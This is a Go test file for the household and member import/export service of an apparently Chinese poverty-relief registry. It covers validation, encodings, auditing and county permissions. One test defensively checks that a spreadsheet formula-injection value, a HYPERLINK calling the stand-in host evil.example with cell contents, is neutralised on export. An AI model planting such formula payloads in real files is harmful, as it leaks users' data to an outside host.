package registry_test

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"

	"golang.org/x/text/encoding/simplifiedchinese"

	"sunshine/internal/auth"
	"sunshine/internal/db"
	"sunshine/internal/db/dbtest"
	"sunshine/internal/errs"
	"sunshine/internal/exchange"
	"sunshine/internal/idcard"
	"sunshine/internal/region"
	"sunshine/internal/registry"
	"sunshine/internal/tabular"
)

// exEnv is a city with two counties, a village in each, and the four principals the
// import tests act as.
type exEnv struct {
	t    testing.TB
	ctx  context.Context
	d    *db.DB
	ex   *exchange.Service
	root *auth.Principal
	// office imports for county 320921; other is the office of county 320922.
	office, other, cadre *auth.Principal
}

const exTree = "code,name\n320900000000,盐城市\n320921000000,响水县\n320921100000,陈家港镇\n320921100201,小圩村\n" +
	"320921100202,大咀村\n320922000000,滨海县\n320922100000,东坎镇\n320922100201,新滩村\n"

func newExEnv(t testing.TB) *exEnv {
	d := dbtest.Open(t)
	d.Clock = func() time.Time { return time.Date(2026, 3, 1, 2, 0, 0, 0, time.UTC) }
	e := &exEnv{t: t, ctx: context.Background(), d: d, ex: &exchange.Service{DB: d},
		root:   &auth.Principal{Username: "cli", Name: "命令行", Role: auth.Admin, Root: true},
		office: &auth.Principal{UserID: 11, Username: "po_320921", Name: "响水农办", Role: auth.PovertyOffice, Scope: "320921000000"},
		other:  &auth.Principal{UserID: 12, Username: "po_320922", Name: "滨海农办", Role: auth.PovertyOffice, Scope: "320922000000"},
		cadre:  &auth.Principal{UserID: 13, Username: "vc_320921", Name: "村干部", Role: auth.VillageCadre, Scope: "320921000000"},
	}
	e.ex.Register(region.NewService(d).Exchange())
	e.ex.Register(registry.HouseholdsKind())
	e.ex.Register(registry.MembersKind())
	if _, err := e.ex.Import(e.ctx, e.root, "regions", strings.NewReader(exTree), "tree.csv", exchange.Options{}); err != nil {
		t.Fatal(err)
	}
	return e
}

func (e *exEnv) imp(p *auth.Principal, kind, data string, opt exchange.Options) (exchange.Report, error) {
	e.t.Helper()
	return e.ex.Import(e.ctx, p, kind, strings.NewReader(data), kind+".csv", opt)
}

// exID makes a valid ID number; n picks the person.
func exID(region6 string, n int) string {
	return idcard.Make(region6, time.Date(1950+n%50, time.Month(1+n%12), 1+n%28, 0, 0, 0, 0, time.UTC), n%500, idcard.Sex(n%2))
}

// exBadChecksum breaks the check character of a valid number.
func exBadChecksum(s string) string {
	last := byte('0')
	if s[17] == '0' {
		last = '1'
	}
	return s[:17] + string(last)
}

const exHouseholdHeader = "户编号,村代码,组,户主身份证号,户主姓名,地址,联系电话,户类型,致贫原因,开户银行,一折通账号,人均纯收入(元),收入年度,纳入日期,状态,脱贫日期\n"

func exHouseholds() string {
	return exHouseholdHeader +
		"H001,320921100201,1组," + exID("320921", 1) + ",张大山,小圩村1组1号,13800000001,低保户,因病;因残,农商行,6228480000000001,\"3,200.50\",2025,2020-03-01,在档,\n" +
		"H002,320921100201,2组," + exID("320921", 3) + ",李小河,小圩村2组5号,,特困,缺劳力,,,2800,2025,2019/05/06,,\n" +
		"H003,320921100202,1组," + exID("320921", 5) + ",王秀英,大咀村1组8号,,general,因学,,,9000,2025,20180101,脱贫,2023-12-01\n"
}

const exMemberHeader = "户编号,身份证号,姓名,与户主关系,健康状况,残疾等级,劳动能力,在校生,参加医保,死亡日期\n"

func exMembers() string {
	return exMemberHeader +
		"H001," + exID("320921", 1) + ",张大山,户主,慢性病,0,弱劳动力,否,是,\n" +
		"H001," + exID("320921", 2) + ",赵桂兰,配偶,健康,0,有劳动力,0,1,\n" +
		"H001," + exID("320921", 4) + ",张小明,子女,健康,,无劳动力,是,是,\n" +
		"H002," + exID("320921", 3) + ",李小河,head,disabled,2,none,0,1,\n" +
		"H003," + exID("320921", 5) + ",王秀英,户主,健康,0,有劳动力,0,1,\n"
}

func (e *exEnv) count(q string, args ...any) int {
	e.t.Helper()
	var n int
	if err := e.d.Reader().QueryRowContext(e.ctx, q, args...).Scan(&n); err != nil {
		e.t.Fatal(err)
	}
	return n
}

func (e *exEnv) export(p *auth.Principal, kind, format string) *bytes.Buffer {
	e.t.Helper()
	var out bytes.Buffer
	if err := e.ex.Export(e.ctx, p, kind, format, &out); err != nil {
		e.t.Fatalf("export %s: %v", kind, err)
	}
	return &out
}

func TestImportHouseholdsAndMembers(t *testing.T) {
	e := newExEnv(t)
	rep, err := e.imp(e.office, "households", exHouseholds(), exchange.Options{})
	if err != nil || rep.Inserted != 3 || !rep.Committed {
		t.Fatalf("households: %+v %v", rep, err)
	}
	rep, err = e.imp(e.office, "members", exMembers(), exchange.Options{})
	if err != nil || rep.Inserted != 5 {
		t.Fatalf("members: %+v %v", rep, err)
	}
	var h registry.Household
	var status, exited, policy, source string
	var count int
	if err := e.d.Reader().QueryRowContext(e.ctx, `SELECT household_type, causes, income_per_capita_fen, members_count, head_name,
		status, COALESCE(exited_on, ''), COALESCE(policy_until, ''), source FROM households WHERE household_no = 'H001'`).
		Scan(&h.HouseholdType, new(string), &h.Income.PerCapitaFen, &count, &h.HeadName, &status, &exited, &policy, &source); err != nil {
		t.Fatal(err)
	}
	if h.HouseholdType != registry.Dibao || h.Income.PerCapitaFen != 320050 || count != 3 || h.HeadName != "张大山" ||
		status != "registered" || !strings.HasPrefix(source, "import:") || len(source) != len("import:")+16 {
		t.Errorf("H001 = %+v count %d status %s source %s", h, count, status, source)
	}
	if err := e.d.Reader().QueryRowContext(e.ctx, `SELECT status, exited_on, policy_until FROM households WHERE household_no = 'H003'`).
		Scan(&status, &exited, &policy); err != nil || status != "exited" || exited != "2023-12-01" || policy != "2025-12-01" {
		t.Errorf("exited household: %s %s %s %v", status, exited, policy, err)
	}
	var sex, birth, health, labour string
	var school, insured int
	if err := e.d.Reader().QueryRowContext(e.ctx, `SELECT sex, birth_date, health, labour, in_school, medical_insurance FROM members
		WHERE id_number = ?`, exID("320921", 4)).Scan(&sex, &birth, &health, &labour, &school, &insured); err != nil ||
		sex != "female" || birth != "1954-05-05" || health != "healthy" || labour != "none" || school != 1 || insured != 1 {
		t.Errorf("member 4: %s %s %s %s %d %d %v", sex, birth, health, labour, school, insured, err)
	}
	events := e.count(`SELECT COUNT(*) FROM audit_events`)

	// The same files again change nothing and leave no trace.
	for _, k := range []struct{ kind, data string }{{"households", exHouseholds()}, {"members", exMembers()}} {
		rep, err := e.imp(e.office, k.kind, k.data, exchange.Options{})
		if err != nil || rep.Inserted+rep.Updated != 0 || rep.Unchanged != rep.Rows {
			t.Errorf("re-import %s: %+v %v", k.kind, rep, err)
		}
	}
	// Exports read back unchanged, as CSV and as XLSX.
	for _, format := range []string{"csv", "xlsx"} {
		for _, kind := range []string{"households", "members"} {
			out := e.export(e.office, kind, format)
			rep, err := e.ex.Import(e.ctx, e.office, kind, out, kind+"."+format, exchange.Options{})
			if err != nil || rep.Rows == 0 || rep.Unchanged != rep.Rows {
				t.Errorf("%s export → import (%s): %+v %v", kind, format, rep, err)
			}
		}
	}
	if n := e.count(`SELECT COUNT(*) FROM audit_events`); n != events {
		t.Errorf("unchanged imports wrote %d audit events", n-events)
	}
	// The other county sees none of it.
	if out := e.export(e.other, "members", "csv").String(); strings.Contains(out, "H00") {
		t.Errorf("other county's export: %s", out)
	}
}

func TestImportRejectsBadRowsAllOrNothing(t *testing.T) {
	e := newExEnv(t)
	if _, err := e.imp(e.office, "households", exHouseholds(), exchange.Options{}); err != nil {
		t.Fatal(err)
	}
	// County 320922 has a household with a member, so a person can be taken elsewhere.
	otherHH := exHouseholdHeader + "B001,320922100201,1组," + exID("320922", 7) + ",孙八,,,低保户,因病,,,1000,2025,,,\n"
	if _, err := e.imp(e.other, "households", otherHH, exchange.Options{}); err != nil {
		t.Fatal(err)
	}
	if _, err := e.imp(e.other, "members", exMemberHeader+"B001,"+exID("320922", 7)+",孙八,户主,,,,,,\n", exchange.Options{}); err != nil {
		t.Fatal(err)
	}
	bad := exHouseholdHeader +
		"H010,320921100201,1组," + exID("320921", 10) + ",好人,,,低保户,因病,,,1000,2025,,,\n" + // 2: fine
		"H011,320921100201,1组," + exBadChecksum(exID("320921", 11)) + ",错号,,,低保户,因病,,,1000,2025,,,\n" + // 3
		"H012,320921100299,1组," + exID("320921", 12) + ",无村,,,低保户,因病,,,1000,2025,,,\n" + // 4: unknown village
		"H013,320922100201,1组," + exID("320921", 13) + ",越界,,,低保户,因病,,,1000,2025,,,\n" + // 5: other county
		"H010,320921100201,1组," + exID("320921", 14) + ",重复,,,低保户,因病,,,1000,2025,,,\n" + // 6: duplicate number
		"H015,320921100201,1组," + exID("320921", 15) + ",怪类,,,富裕户,因病,,,1000,2025,,,\n" + // 7: bad type
		"H016,320921100201,1组," + exID("320921", 16) + ",坏钱,,,低保户,因病,,,12.345,2025,,,\n" + // 8: bad amount
		"H017,320921100201,1组," + exID("320921", 17) + ",坏因,,,低保户,因懒,,,1000,2025,,,\n" + // 9: bad cause
		"B001,320921100201,1组," + exID("320921", 18) + ",占号,,,低保户,因病,,,1000,2025,,,\n" // 10: number taken elsewhere
	rep, err := e.imp(e.office, "households", bad, exchange.Options{})
	if errs.CodeOf(err) != errs.Invalid || rep.Committed {
		t.Fatalf("bad file: %+v %v", rep, err)
	}
	want := map[int]string{3: "head_id_number", 4: "village_code", 5: "village_code", 6: "household_no", 7: "household_type",
		8: "income_per_capita_yuan", 9: "causes", 10: "household_no"}
	exCheckRejected(t, rep, want)
	if n := e.count(`SELECT COUNT(*) FROM households WHERE household_no = 'H010'`); n != 0 {
		t.Fatal("a rejected file wrote rows")
	}
	rep, err = e.imp(e.office, "households", bad, exchange.Options{ValidOnly: true})
	if err != nil || rep.Inserted != 1 || rep.RejectedTotal != len(want) || !rep.Committed {
		t.Fatalf("valid only: %+v %v", rep, err)
	}

	members := exMemberHeader +
		"H001," + exID("320921", 1) + ",张大山,户主,,,,,,\n" + // 2: fine
		"H001," + exID("320922", 7) + ",孙八,配偶,,,,,,\n" + // 3: active in B001 (other county)
		"H002," + exID("320921", 1) + ",张大山,户主,,,,,,\n" + // 4: taken by line 2, another household
		"H001," + exID("320921", 1) + ",张大山,户主,,,,,,\n" + // 5: duplicate of line 2
		"H001," + exID("320921", 20) + ",怪人,外人,,,,,,\n" + // 6: bad relation
		"H001," + exBadChecksum(exID("320921", 21)) + ",错号,子女,,,,,,\n" + // 7: bad checksum
		"H404," + exID("320921", 22) + ",无户,户主,,,,,,\n" + // 8: no such household
		"B001," + exID("320921", 23) + ",越界,子女,,,,,,\n" + // 9: household of the other county
		"H001," + exID("320921", 24) + ",坏日,子女,,,,,,2026-13-01\n" + // 10: bad date
		"H001," + exID("320921", 25) + ",坏残,子女,,7,,,,\n" // 11: bad grade
	rep, err = e.imp(e.office, "members", members, exchange.Options{})
	if errs.CodeOf(err) != errs.Invalid || rep.Committed {
		t.Fatalf("bad members: %+v %v", rep, err)
	}
	exCheckRejected(t, rep, map[int]string{3: "id_number", 4: "id_number", 5: "id_number", 6: "relation", 7: "id_number",
		8: "household_no", 9: "household_no", 10: "deceased_on", 11: "disability_grade"})
	for _, r := range rep.Rejected {
		if (r.Line == 3 && !strings.Contains(r.Reason, "B001")) || (r.Line == 4 && !strings.Contains(r.Reason, "H001")) {
			t.Errorf("line %d does not name the other household: %s", r.Line, r.Reason)
		}
	}
	if n := e.count(`SELECT COUNT(*) FROM members WHERE household_id IN (SELECT id FROM households WHERE region_code LIKE '320921%')`); n != 0 {
		t.Errorf("%d members written by a rejected file", n)
	}
}

func exCheckRejected(t *testing.T, rep exchange.Report, want map[int]string) {
	t.Helper()
	got := map[int]string{}
	for _, r := range rep.Rejected {
		got[r.Line] = r.Column
		if r.Reason == "" || r.Line == 0 {
			t.Errorf("rejected row without line or reason: %+v", r)
		}
	}
	for line, col := range want {
		if got[line] != col {
			t.Errorf("line %d: rejected column %q, want %q (report %+v)", line, got[line], col, rep.Rejected)
		}
	}
	if len(got) != len(want) {
		t.Errorf("rejected lines %v, want %v", got, want)
	}
}

func TestImportUpdatesAreAudited(t *testing.T) {
	e := newExEnv(t)
	for _, k := range []struct{ kind, data string }{{"households", exHouseholds()}, {"members", exMembers()}} {
		if _, err := e.imp(e.office, k.kind, k.data, exchange.Options{}); err != nil {
			t.Fatal(err)
		}
	}
	before := e.count(`SELECT COUNT(*) FROM audit_events`)
	changed := strings.Replace(exHouseholds(), "\"3,200.50\"", "4100", 1)
	rep, err := e.imp(e.office, "households", changed, exchange.Options{})
	if err != nil || rep.Updated != 1 || rep.Unchanged != 2 {
		t.Fatalf("changed household: %+v %v", rep, err)
	}
	changedM := strings.Replace(exMembers(), "赵桂兰,配偶,健康", "赵桂兰,配偶,大病", 1)
	changedM = strings.Replace(changedM, "张大山,户主", "张大善,户主", 1)
	rep, err = e.imp(e.office, "members", changedM, exchange.Options{})
	if err != nil || rep.Updated != 2 || rep.Unchanged != 3 {
		t.Fatalf("changed members: %+v %v", rep, err)
	}
	rows, err := e.d.Reader().QueryContext(e.ctx, `SELECT action, entity_type, entity_id, before_json, after_json FROM audit_events
		WHERE seq > ? ORDER BY seq`, before)
	if err != nil {
		t.Fatal(err)
	}
	defer rows.Close()
	var actions []string
	for rows.Next() {
		var action, typ, id, b, a string
		if err := rows.Scan(&action, &typ, &id, &b, &a); err != nil {
			t.Fatal(err)
		}
		actions = append(actions, action)
		if action == "household.import_update" {
			var after map[string]any
			_ = json.Unmarshal([]byte(a), &after)
			if typ != "household" || id == "" || after["income_per_capita_yuan"] != "4100.00" || len(after) != 1 ||
				!strings.Contains(b, "3200.50") {
				t.Errorf("household event: %s %s %s → %s", typ, id, b, a)
			}
		}
		if action == "member.import_update" && !strings.Contains(a, "serious") && !strings.Contains(a, "张大善") {
			t.Errorf("member event: %s → %s", b, a)
		}
	}
	want := "household.import_update import.households member.import_update member.import_update import.members"
	if strings.Join(actions, " ") != want {
		t.Errorf("events %v, want %s", actions, want)
	}
	var head string
	_ = e.d.Reader().QueryRowContext(e.ctx, `SELECT head_name FROM households WHERE household_no = 'H001'`).Scan(&head)
	if head != "张大善" {
		t.Errorf("head name after the head member's rename: %q", head)
	}
	// Status is the procedures' business: an import cannot exit a household.
	exited := strings.Replace(exHouseholds(), "2025,2020-03-01,在档,", "2025,2020-03-01,脱贫,2025-01-01", 1)
	rep, err = e.imp(e.office, "households", exited, exchange.Options{})
	if err == nil || len(rep.Rejected) != 1 || rep.Rejected[0].Column != "status" {
		t.Errorf("status change by import: %+v %v", rep, err)
	}
}

// GBK CSV and XLSX read like UTF-8 CSV; a file that switches encoding half-way is refused
// with the row named, and nothing is written.
func TestImportEncodingsAndXLSX(t *testing.T) {
	e := newExEnv(t)
	gbk, err := simplifiedchinese.GBK.NewEncoder().String(exHouseholds())
	if err != nil {
		t.Fatal(err)
	}
	rep, err := e.imp(e.office, "households", gbk, exchange.Options{})
	if err != nil || rep.Inserted != 3 {
		t.Fatalf("GBK households: %+v %v", rep, err)
	}
	var buf bytes.Buffer
	lines := strings.Split(strings.TrimSpace(exMembers()), "\n")
	w, err := tabular.NewXLSXWriter(&buf, "成员", strings.Split(lines[0], ","))
	if err != nil {
		t.Fatal(err)
	}
	for _, l := range lines[1:] {
		if err := w.Write(strings.Split(l, ",")); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	rep, err = e.ex.Import(e.ctx, e.office, "members", &buf, "members.xlsx", exchange.Options{})
	if err != nil || rep.Inserted != 5 {
		t.Fatalf("XLSX members: %+v %v", rep, err)
	}
	// UTF-8 first, then a row in GBK.
	tail, _ := simplifiedchinese.GBK.NewEncoder().String("H021,320921100201,1组," + exID("320921", 31) + ",钱多多,,,低保户,因病,,,1000,2025,,,\n")
	mixed := exHouseholdHeader + "H020,320921100201,1组," + exID("320921", 30) + ",周一,,,低保户,因病,,,1000,2025,,,\n" + tail
	rep, err = e.imp(e.office, "households", mixed, exchange.Options{})
	if err == nil || rep.Committed || len(rep.Rejected) != 1 || rep.Rejected[0].Line != 3 || !strings.Contains(rep.Rejected[0].Reason, "编码") {
		t.Fatalf("mixed encodings: %+v %v", rep, err)
	}
	if n := e.count(`SELECT COUNT(*) FROM households WHERE household_no = 'H020'`); n != 0 {
		t.Error("the mixed file was partly committed")
	}
}

// A value that a spreadsheet would run as a formula leaves an export neutralised, and the
// export still imports back unchanged.
func TestExportNeutralisesFormulas(t *testing.T) {
	e := newExEnv(t)
	evil := `=HYPERLINK("http://evil.example/?"&A1,"点击")`
	data := exHouseholdHeader + "H030,320921100201,1组," + exID("320921", 40) + ",户主," + `"` + strings.ReplaceAll(evil, `"`, `""`) + `"` +
		",,低保户,因病,,,1000,2025,,,\n"
	if _, err := e.imp(e.office, "households", data, exchange.Options{}); err != nil {
		t.Fatal(err)
	}
	out := e.export(e.office, "households", "csv").String()
	if !strings.Contains(out, `"'=HYPERLINK(`) || strings.Contains(out, `,"=HYPERLINK`) {
		t.Fatalf("export not neutralised: %s", out)
	}
	rep, err := e.imp(e.office, "households", out, exchange.Options{})
	if err != nil || rep.Unchanged != 1 {
		t.Errorf("re-import of the neutralised export: %+v %v", rep, err)
	}
}

func TestImportNeedsPermission(t *testing.T) {
	e := newExEnv(t)
	if _, err := e.imp(e.cadre, "households", exHouseholds(), exchange.Options{}); errs.CodeOf(err) != errs.Forbidden {
		t.Errorf("village cadre import: %v", err)
	}
	var out bytes.Buffer
	if err := e.ex.Export(e.ctx, e.cadre, "members", "csv", &out); errs.CodeOf(err) != errs.Forbidden || out.Len() != 0 {
		t.Errorf("village cadre export: %v (%d bytes)", err, out.Len())
	}
}

func ExampleHouseholdsKind() {
	k := registry.HouseholdsKind()
	var cols []string
	for _, c := range k.Schema.Columns[:4] {
		cols = append(cols, c.Name+"="+c.Aliases[0])
	}
	fmt.Println(k.Name, strings.Join(cols, " "))
	// Output: households household_no=户编号 village_code=村代码 group_name=组 head_id_number=户主身份证号
}

// More rows than one batch: the writer runs beside the reader, and the household counts
// and heads still come out right, on the first import and after a change.
func TestImportManyMembers(t *testing.T) {
	e := newExEnv(t)
	const households = 8000
	var hh, mm strings.Builder
	hh.WriteString("household_no,village_code,head_id_number,household_type\n")
	mm.WriteString("household_no,id_number,name,relation\n")
	for i := 0; i < households; i++ {
		no := fmt.Sprintf("M%05d", i)
		fmt.Fprintf(&hh, "%s,320921100201,%s,general\n", no, exManyID(3*i))
		for k, rel := range []string{"head", "spouse", "child"} {
			fmt.Fprintf(&mm, "%s,%s,成员%d,%s\n", no, exManyID(3*i+k), k, rel)
		}
	}
	if rep, err := e.imp(e.office, "households", hh.String(), exchange.Options{}); err != nil || rep.Inserted != households {
		t.Fatalf("households: %+v %v", rep, err)
	}
	if rep, err := e.imp(e.office, "members", mm.String(), exchange.Options{}); err != nil || rep.Inserted != 3*households {
		t.Fatalf("members: %+v %v", rep, err)
	}
	if n := e.count(`SELECT COUNT(*) FROM households WHERE household_no LIKE 'M%' AND members_count = 3 AND head_name = '成员0'`); n != households {
		t.Errorf("%d of %d households have their count and head", n, households)
	}
	changed := strings.Replace(mm.String(), "M00042,"+exManyID(126)+",成员0,head", "M00042,"+exManyID(126)+",新户主,head", 1)
	if rep, err := e.imp(e.office, "members", changed, exchange.Options{}); err != nil || rep.Updated != 1 || rep.Unchanged != 3*households-1 {
		t.Fatalf("re-import with one change: %+v %v", rep, err)
	}
	var head string
	_ = e.d.Reader().QueryRowContext(e.ctx, `SELECT head_name FROM households WHERE household_no = 'M00042'`).Scan(&head)
	if head != "新户主" {
		t.Errorf("head after the change: %q", head)
	}
}

func exManyID(i int) string {
	return idcard.Make("320921", time.Date(1950, 1, 1, 0, 0, 0, 0, time.UTC).AddDate(0, 0, i/1000), i%500, idcard.Sex(i/500%2))
}
